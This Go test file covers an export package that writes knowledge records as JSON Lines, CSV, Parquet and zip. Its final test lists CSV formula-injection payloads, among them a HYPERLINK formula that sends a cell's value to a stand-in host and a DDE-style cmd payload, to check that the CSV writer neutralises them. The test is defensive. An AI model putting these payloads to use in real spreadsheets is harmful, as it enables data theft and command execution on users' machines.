package exports_test

import (
	"archive/zip"
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"iter"
	"strings"
	"testing"
	"time"

	"github.com/parquet-go/parquet-go"

	"github.com/agentry/agentry/internal/knowledge/exports"
)

func records(n int) iter.Seq2[exports.Record, error] {
	return func(yield func(exports.Record, error) bool) {
		pub := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
		for i := range n {
			r := exports.Record{ID: "c" + string(rune('a'+i%26)) + strings.Repeat("x", i/26), SourceID: "s1", VersionID: "v1", Version: 1,
				Title: "Title, \"quoted\"\nline", URL: "https://example.org/", ContentType: "text/plain", Status: "indexed",
				Metadata: map[string]any{"team": "docs", "n": float64(i)}, Text: "text of item\nwith, commas",
				CreatedAt: time.Date(2026, 11, 2, 3, 4, 5, 0, time.UTC), UpdatedAt: time.Date(2026, 11, 2, 3, 4, 5, 0, time.UTC)}
			if i%2 == 0 {
				r.PublishedAt = &pub
			}
			if !yield(r, nil) {
				return
			}
		}
	}
}

func TestJSONL(t *testing.T) {
	var b bytes.Buffer
	n, err := exports.WriteAll(exports.JSONL, &b, records(3))
	if err != nil || n != 3 {
		t.Fatal(n, err)
	}
	sc := bufio.NewScanner(&b)
	lines := 0
	for sc.Scan() {
		var r exports.Record
		if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
			t.Fatal(err)
		}
		if r.Metadata["team"] != "docs" || r.Text != "text of item\nwith, commas" || r.SourceID != "s1" {
			t.Errorf("%+v", r)
		}
		lines++
	}
	if lines != 3 {
		t.Fatalf("%d lines", lines)
	}
}

func TestCSV(t *testing.T) {
	var b bytes.Buffer
	if _, err := exports.WriteAll(exports.CSV, &b, records(2)); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 || rows[0][0] != "id" || rows[1][4] != "Title, \"quoted\"\nline" || rows[1][8] != `{"n":0,"team":"docs"}` || rows[1][12] != "2026-11-01T00:00:00Z" || rows[2][12] != "" {
		t.Fatalf("%q", rows)
	}
}

func TestParquet(t *testing.T) {
	var b bytes.Buffer
	if _, err := exports.WriteAll(exports.Parquet, &b, records(600)); err != nil {
		t.Fatal(err)
	}
	f, err := parquet.OpenFile(bytes.NewReader(b.Bytes()), int64(b.Len()))
	if err != nil {
		t.Fatal(err)
	}
	if f.NumRows() != 600 || len(f.RowGroups()) < 3 {
		t.Fatalf("%d rows in %d row groups", f.NumRows(), len(f.RowGroups()))
	}
	type row struct {
		ID          string     `parquet:"id"`
		Metadata    string     `parquet:"metadata"`
		Text        string     `parquet:"text"`
		PublishedAt *time.Time `parquet:"published_at,optional,timestamp(millisecond)"`
	}
	rows, err := parquet.Read[row](bytes.NewReader(b.Bytes()), int64(b.Len()))
	if err != nil {
		t.Fatal(err)
	}
	if rows[0].ID != "ca" || rows[0].Text != "text of item\nwith, commas" || rows[0].PublishedAt == nil || rows[1].PublishedAt != nil || !strings.Contains(rows[5].Metadata, `"n":5`) {
		t.Fatalf("%+v %+v", rows[0], rows[1])
	}
}

func TestZip(t *testing.T) {
	var b bytes.Buffer
	if _, err := exports.WriteAll(exports.Zip, &b, records(3)); err != nil {
		t.Fatal(err)
	}
	z, err := zip.NewReader(bytes.NewReader(b.Bytes()), int64(b.Len()))
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]string{}
	for _, f := range z.File {
		rc, _ := f.Open()
		data, _ := io.ReadAll(rc)
		rc.Close()
		names[f.Name] = string(data)
	}
	if names["contents/ca.txt"] != "text of item\nwith, commas" || len(names) != 4 {
		t.Fatalf("%v", names)
	}
	if lines := strings.Split(strings.TrimSpace(names["manifest.jsonl"]), "\n"); len(lines) != 3 || !strings.Contains(lines[0], `"file":"contents/ca.txt"`) || strings.Contains(lines[0], "commas") {
		t.Fatalf("manifest %q", names["manifest.jsonl"])
	}
}

func TestEmptyAndUnknown(t *testing.T) {
	for _, f := range exports.Formats() {
		var b bytes.Buffer
		if n, err := exports.WriteAll(f, &b, records(0)); err != nil || n != 0 {
			t.Errorf("%s: %d %v", f, n, err)
		}
	}
	if _, err := exports.NewWriter("xml", io.Discard); err != exports.ErrFormat {
		t.Error(err)
	}
}

// TestCSVFormulaCellsAreInert: a cell a spreadsheet would evaluate (OWASP's
// = + - @ tab CR, and their full-width forms) is written with a leading
// quote; JSON Lines, Parquet and zip keep the value as it is.
func TestCSVFormulaCellsAreInert(t *testing.T) {
	hostile := []string{`=HYPERLINK("https://evil.example/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
		"\t=1+1", "\r=1+1", "＝1+1", "\x00=1"}
	recs := func(yield func(exports.Record, error) bool) {
		for i, h := range hostile {
			if !yield(exports.Record{ID: "c" + string(rune('a'+i)), Title: h, URL: h, Text: h, Metadata: map[string]any{}}, nil) {
				return
			}
		}
		yield(exports.Record{ID: "plain", Title: "Quarterly = good", URL: "https://example.org/", Text: "'already quoted"}, nil)
	}
	var b bytes.Buffer
	if _, err := exports.WriteAll(exports.CSV, &b, recs); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, h := range hostile {
		for _, col := range []int{4, 5, 9} { // title, url, text
			if got := rows[i+1][col]; got != "'"+h {
				t.Errorf("cell %q written as %q", h, got)
			}
		}
	}
	if last := rows[len(rows)-1]; last[4] != "Quarterly = good" || last[5] != "https://example.org/" || last[9] != "'already quoted" {
		t.Errorf("ordinary cells changed: %q", last)
	}
	var j bytes.Buffer
	if _, err := exports.WriteAll(exports.JSONL, &j, recs); err != nil {
		t.Fatal(err)
	}
	var first exports.Record
	if err := json.Unmarshal([]byte(strings.SplitN(j.String(), "\n", 2)[0]), &first); err != nil || first.Title != hostile[0] {
		t.Errorf("jsonl changed the value: %+v %v", first, err)
	}
}
